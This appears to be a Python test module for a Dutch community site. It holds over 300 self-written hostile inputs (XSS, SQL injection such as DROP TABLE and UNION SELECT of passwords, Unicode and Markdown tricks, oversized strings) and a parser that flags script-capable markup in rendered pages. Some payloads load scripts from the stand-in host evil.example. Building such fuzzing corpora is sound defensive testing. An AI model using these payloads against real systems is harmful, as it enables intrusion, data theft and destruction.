"""Hostile text we wrote ourselves, by family, and the check that a rendered page runs none of it.

`PAYLOADS` is the whole corpus (over 300 strings); `sample(n, seed)` picks a rotating subset
that always includes one of each family, for the slower HTTP forms. `executable_markup(html,
baseline)` lists whatever in a page could run script that the clean page did not have.
"""

import random
import re
from html.parser import HTMLParser

MARK = "vbxss"  # every script payload calls alert/print with this, so a finding is ours

_SCRIPT = [
    f"<script>alert('{MARK}')</script>",
    f"<SCRIPT>alert('{MARK}')</SCRIPT>",
    f"<scr<script>ipt>alert('{MARK}')</scr</script>ipt>",
    f"<script src=//evil.example/{MARK}.js></script>",
    f"<script/src=data:,alert('{MARK}')></script>",
    f"<script>/*</script><script>alert('{MARK}')//*/</script>",
    f"</textarea><script>alert('{MARK}')</script>",
    f"</title><script>alert('{MARK}')</script>",
    f"\"><script>alert('{MARK}')</script>",
    f"'><script>alert('{MARK}')</script>",
    f"</script><script>alert('{MARK}')</script>",
    f"<!--<script>alert('{MARK}')</script>-->",
    f"<![CDATA[<script>alert('{MARK}')</script>]]>",
    f"<noscript><p title=\"</noscript><img src=x onerror=alert('{MARK}')>\">",
    f"<template><script>alert('{MARK}')</script></template>",
]
_HANDLERS = [
    f"<img src=x onerror=alert('{MARK}')>",
    f"<img src=x onerror=\"alert('{MARK}')\">",
    f"<IMG SRC=x OnErRoR=alert('{MARK}')>",
    f"<img/src=x/onerror=alert('{MARK}')>",
    f"<body onload=alert('{MARK}')>",
    f"<div onmouseover=\"alert('{MARK}')\">hover</div>",
    f"<a onclick=\"alert('{MARK}')\">klik</a>",
    f"<input autofocus onfocus=alert('{MARK}')>",
    f"<details open ontoggle=alert('{MARK}')>",
    f"<video><source onerror=alert('{MARK}')></video>",
    f"<audio src=x onerror=alert('{MARK}')>",
    f"<marquee onstart=alert('{MARK}')>",
    f"<select autofocus onfocus=alert('{MARK}')>",
    f"<textarea autofocus onfocus=alert('{MARK}')>",
    f"<keygen autofocus onfocus=alert('{MARK}')>",
    f"<p style=x onpointerenter=alert('{MARK}')>p</p>",
    f"\" onmouseover=\"alert('{MARK}')",
    f"' onfocus='alert(`{MARK}`)' autofocus='",
    f"<iframe onload=alert('{MARK}')></iframe>",
    f"<form><button formaction=javascript:alert('{MARK}')>x</button></form>",
]
_URLS = [
    f"[klik](javascript:alert('{MARK}'))",
    f"[klik](JaVaScRiPt:alert('{MARK}'))",
    f"[klik]( javascript:alert('{MARK}'))",
    f"[klik](java\tscript:alert('{MARK}'))",
    f"[klik](java&#x09;script:alert('{MARK}'))",
    f"[klik](&#106;avascript:alert('{MARK}'))",
    f"[klik](vbscript:msgbox('{MARK}'))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgndmJ4c3MnKTwvc2NyaXB0Pg==)",
    f"[klik](data:text/html,<script>alert('{MARK}')</script>)",
    f"![plaatje](javascript:alert('{MARK}'))",
    f"![plaatje](x\" onerror=\"alert('{MARK}'))",
    f"[klik](https://example.nl\" onclick=\"alert('{MARK}'))",
    f"<javascript:alert('{MARK}')>",
    f"[a][ref]\n\n[ref]: javascript:alert('{MARK}')",
    f"<a href=\"javascript:alert('{MARK}')\">a</a>",
    f"<a href=\"&#x6A;avascript:alert('{MARK}')\">a</a>",
    f"<iframe src=\"javascript:alert('{MARK}')\">",
    f"<object data=\"javascript:alert('{MARK}')\">",
    f"<embed src=\"data:text/html,<script>alert('{MARK}')</script>\">",
    f"<base href=\"javascript:alert('{MARK}')//\">",
    f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{MARK}')\">",
    f"[klik](//evil.example/{MARK})",
    f"[klik](\\\\evil.example\\{MARK})",
    f"[klik](/\\evil.example/{MARK})",
    f"https://example.nl/?q=<script>alert('{MARK}')</script>",
]
_SVG_CSS = [
    f"<svg onload=alert('{MARK}')>",
    f"<svg><script>alert('{MARK}')</script></svg>",
    f"<svg><animate onbegin=alert('{MARK}') attributeName=x dur=1s>",
    f"<svg><a xlink:href=\"javascript:alert('{MARK}')\"><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARK}')>",
    f"<style>@import 'javascript:alert(\"{MARK}\")';</style>",
    f"<style>body{{background:url(\"javascript:alert('{MARK}')\")}}</style>",
    f"<div style=\"background:url(javascript:alert('{MARK}'))\">",
    f"<div style=\"width:expression(alert('{MARK}'))\">",
    f"<link rel=stylesheet href=\"javascript:alert('{MARK}')\">",
    f"<p style=\"-moz-binding:url(//evil.example/{MARK}.xml#x)\">",
    "<style>*{display:none}</style>",
    f"<img src=\"x\" style=\"x:expression(alert('{MARK}'))\">",
    f"<xss style=\"behavior:url({MARK}.htc)\">",
]
_MARKDOWN = [
    "**niet afgesloten vet",
    "*schuin **vet* door elkaar**",
    "```\nniet afgesloten codeblok",
    "````html\n<script>alert('x')</script>\n````",
    "`<script>alert('x')</script>`",
    "    <script>ingesprongen code</script>",
    "> " * 200 + "diep citaat",
    "- " * 300 + "diepe lijst",
    "[" * 500 + "haakjes" + "]" * 3,
    "(" * 500,
    "![" * 300,
    "| a | b |\n|---|---|\n| <script> | x |",
    "| a |\n|---|\n" + "| x |\n" * 300,
    "# kop\n## kop\n###### kop\n####### zeven",
    "Setext\n===\nNog een\n---",
    "[link](<https://example.nl/a b>)",
    "[link](https://example.nl/\u0000)",
    "<https://example.nl/<script>>",
    "<mailto:a@b.nl?subject=<script>>",
    "@" * 200,
    "@nieuweling @bestaatniet @@dubbel",
    "\\<script\\>alert(1)\\</script\\>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;&amp;&amp;",
    "---\n***\n___",
    "1. een\n1) twee\n- drie\n* vier\n+ vijf",
    "[^voetnoot]\n\n[^voetnoot]: <script>",
    "*" * 1000,
    "_" * 1000,
    "~~doorgestreept~~ ~~~drie~~~",
    "<!-- commentaar --> zichtbaar",
    "<div>\n*markdown in html*\n</div>",
    "<p>alinea</p><b>vet</b><i>schuin</i>",
    "regel\\\nafgebroken",
    "tab\tgescheiden\ttekst",
    "\r\n\r\nwindows\r\nregels\r",
]
_UNICODE = [
    "\u202eevil.exe\u202c.txt",
    "normaal \u202egnikeer\u202c tekst",
    "\u2066isolate\u2069 \u2067rtl\u2069 \u2068first\u2069",
    "\u200b\u200c\u200d\u2060\ufeff",
    "on\u200berror",
    "java\u200bscript:alert(1)",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "Z\u0351\u0354\u0355a\u0352\u0357\u0358l\u0359\u035ag\u035b\u035co\u035d\u035e" * 20,
    "e" + "\u0301" * 500,
    "\U0001F4A9\U0001F600\U0001F468\u200d\U0001F469\u200d\U0001F467",
    "\ud7ff\ue000\uffff",
    "\u00ad\u034f\u115f\u1160\u3164",
    "Ａｌｅｒｔ（１） ＜ｓｃｒｉｐｔ＞",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "¹²³ ⁴⁵⁶ ٣ ߃ ૩",
    "\u0130stanbul ß ǅ ﬁ",
    "مرحبا بالعالم",
    "שלום עולם",
    "日本語のテキスト",
    "\u0000",
    "voor\u0000na",
    "\x01\x02\x03\x07\x08\x0b\x0c\x1b[31mrood\x1b[0m",
    "\u2028regel\u2029alinea",
    "\u180e\u2000\u2001\u2002\u3000",
    "ℌ𝔢𝔩𝔩𝔬 𝕎𝕠𝕣𝕝𝕕",
    "a\u0308\u0323\u0301",
    "\U000e0041\U000e0042",
    "\ufdd0\ufffe",
    "İ̇",
    "\u0085next line",
]
_SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"\"=\"",
    "'; DROP TABLE community_question; --",
    "1; DELETE FROM auth_user",
    "' UNION SELECT username, password FROM community_user --",
    "admin'--",
    "1' AND SLEEP(5)--",
    "'; SELECT pg_sleep(5); --",
    "' AND 1=CAST((SELECT version()) AS int) --",
    "%' OR '%'='",
    "\\'; --",
    "1 OR 1=1",
    "') OR ('a'='a",
    "'||(SELECT '')||'",
    "$$; SELECT 1; $$",
    "E'\\x00'",
    "ATTACH DATABASE '/tmp/x.db' AS x; --",
    "' GLOB '*",
    "%%%%%%%%",
    "_%_%_",
]
_WHOOSH = [
    "AND", "OR", "NOT", "AND OR NOT", "pakket AND", "OR pakket", "NOT NOT NOT",
    "*", "?", "~", "^", ":", "(", ")", "\"", "()", "\"\"", "*:*", "title:pakket",
    "pakket~2", "pakket^10", "pak*", "p?kket", "\"niet afgesloten", "(((pakket",
    "pakket))))", "[a TO z]", "{a TO z}", "title:(a OR b)", "a AND (b OR (c AND NOT d))",
    "\\*", "*" * 200, "~" * 100, "^" * 100, ":" * 100, "pakket ^-1", "a:b:c:d",
    "'quoted'", "<>", "#$%&", "NOT pakket", "pakket NOT", "ANDOR", "  ", "\t",
]
_BIG = [
    "a" * 100_000,
    ("lorem ipsum " * 9_000)[:100_000],
    "<script>" * 12_000,
    "x\u0000" * 2_000,
    "\u202e" * 5_000,
    "é" * 50_000,
]
FAMILIES = {
    "script": _SCRIPT, "handler": _HANDLERS, "url": _URLS, "svg_css": _SVG_CSS,
    "markdown": _MARKDOWN, "unicode": _UNICODE, "sql": _SQL, "whoosh": _WHOOSH, "big": _BIG,
}
_BASE = [p for family in FAMILIES.values() for p in family]
# Each markup payload also hidden inside Markdown constructs a parser may treat specially.
_WRAPPED = [
    wrap.format(p)
    for p in _SCRIPT + _HANDLERS + _SVG_CSS[:6]
    for wrap in ("**{}**", "> {}", "[{}](https://example.nl)")
]
FAMILIES["wrapped"] = _WRAPPED
PAYLOADS: list[str] = _BASE + _WRAPPED


def sample(n: int, seed: int) -> list[str]:
    """`n` payloads: one of each family first, then a seeded rotation through the rest."""
    rng = random.Random(seed)
    picked = [rng.choice(family) for family in FAMILIES.values()]
    rest = [p for p in PAYLOADS if p not in picked]
    return picked + rng.sample(rest, max(0, n - len(picked)))


_DANGEROUS_URL = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)
_URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc"}
_RISKY_TAGS = {"iframe", "object", "embed", "base", "svg", "math", "frame", "applet"}


class _Findings(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=...>")
            squeezed = re.sub(r"[\x00-\x20]", "", value)
            if name in _URL_ATTRS and _DANGEROUS_URL.match(squeezed):
                self.found.append(f"<{tag} {name}={value[:40]!r}>")
            if name == "style" and re.search(r"expression\(|javascript:|binding", value, re.I):
                self.found.append(f"<{tag} style={value[:40]!r}>")
            if tag == "meta" and name == "http-equiv" and value.lower() == "refresh":
                self.found.append("<meta http-equiv=refresh>")
        if tag == "script":
            self.found.append(f"<script {dict(attrs).get('src', '')}>")
        elif tag in _RISKY_TAGS:
            self.found.append(f"<{tag}>")

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        pass


def findings(html: str) -> list[str]:
    parser = _Findings()
    parser.feed(html)
    parser.close()
    return parser.found


def executable_markup(html: str, baseline: list[str] = ()) -> list[str]:
    """What in `html` could run script and is not in `baseline` (the findings of the same
    page without hostile input: our own `<script src>` tags)."""
    allowed = list(baseline)
    extra = []
    for item in findings(html):
        if item in allowed:
            allowed.remove(item)
        else:
            extra.append(item)
    return extra
